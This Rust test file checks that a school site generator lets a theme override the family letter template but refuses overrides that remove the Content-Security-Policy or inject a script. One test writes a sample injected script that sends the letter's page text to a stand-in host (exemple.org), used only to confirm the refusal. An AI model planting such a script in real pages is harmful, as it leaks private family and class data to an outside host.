//! A school's `theme/templates/` overrides the default theme's templates,
//! including those of the pages made outside the site: the family letters
//! (`lettre.html`). An override cannot drop the letter's security policy.

use super::common::{class_code, preau, repo, school_copy, text};

/// The default theme's `lettre.html`.
fn default_letter() -> String {
    std::fs::read_to_string(repo().join("themes/default/templates/lettre.html")).unwrap()
}

#[test]
fn a_school_theme_overrides_the_family_letter() {
    let (_tmp, school) = school_copy("minimal");
    let mine = default_letter().replace(
        "<p>Madame, Monsieur,</p>",
        "<p>Chères familles de la {{ class.name }},</p>",
    );
    std::fs::create_dir_all(school.join("theme/templates")).unwrap();
    std::fs::write(school.join("theme/templates/lettre.html"), mine).unwrap();
    let r = preau(&school, &["access", "lettres"]);
    assert!(r.status.success(), "{:?}", text(&r));
    let letter = std::fs::read_to_string(school.join(".preau/lettres/lettre-cm1.html")).unwrap();
    assert!(
        letter.contains("Chères familles de la CM1 de Mme Martin,"),
        "{letter}"
    );
    assert!(letter.contains(&class_code(&school, "cm1")) && letter.contains("<svg"));
}

#[test]
fn a_letter_template_that_drops_its_policy_or_adds_a_script_is_refused() {
    let without_policy: String = default_letter()
        .lines()
        .filter(|l| !l.contains("Content-Security-Policy"))
        .map(|l| format!("{l}\n"))
        .collect();
    let with_script = default_letter().replace(
        "</body>",
        "<script>fetch('https://exemple.org/?' + document.body.innerText)</script></body>",
    );
    for template in [without_policy, with_script] {
        let (_tmp, school) = school_copy("minimal");
        std::fs::create_dir_all(school.join("theme/templates")).unwrap();
        std::fs::write(school.join("theme/templates/lettre.html"), template).unwrap();
        let r = preau(&school, &["access", "lettres"]);
        let (_, stderr) = text(&r);
        assert!(!r.status.success(), "{stderr}");
        assert!(
            stderr.contains("theme/templates/lettre.html") && stderr.contains("conseil :"),
            "{stderr}"
        );
        assert!(
            !school.join(".preau/lettres/lettre-cm1.html").exists(),
            "a refused letter was written"
        );
    }
}
